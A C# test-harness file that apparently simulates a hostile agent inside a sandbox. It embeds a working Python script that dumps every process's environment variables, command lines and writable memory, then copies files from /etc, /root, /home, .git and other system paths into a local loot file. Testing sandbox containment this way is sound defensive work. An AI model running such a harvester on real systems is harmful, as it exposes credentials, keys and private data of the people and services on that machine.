namespace Moat.EndToEnd.Tests.Harness;

/// <summary>An agent that takes all it can get at: the memory and the papers of each process, and every file.</summary>
internal static class Loot
{
    /// <summary>A Python script that writes everything to <c>/workspace/loot</c>, after the lines of the test's own.</summary>
    public static string Collector(string before = "") => before + "\n" + """
        import os
        loot = open("/workspace/loot", "wb")
        def take(path, most=1 << 24):
            try:
                with open(path, "rb") as f: loot.write(f.read(most))
            except (OSError, ValueError): pass
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for name in ("environ", "cmdline", "maps", "status", "auxv", "comm", "mountinfo"): take(f"/proc/{pid}/{name}")
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                    for line in maps:
                        start, end = (int(x, 16) for x in line.split()[0].split("-"))
                        if "rw" not in line or end - start > 1 << 26: continue
                        try:
                            mem.seek(start)
                            loot.write(mem.read(end - start))
                        except (OSError, ValueError, OverflowError): pass
            except OSError: pass
        for top in ("/etc", "/home", "/root", "/run", "/tmp", "/var", "/dev/shm", "/.moat", "/mnt", "/srv", "/sys/fs", "/workspace/p/.git"):
            for folder, _, files in os.walk(top):
                for name in files:
                    path = os.path.join(folder, name)
                    if os.path.isfile(path): take(path)
        loot.close()
        """;
}
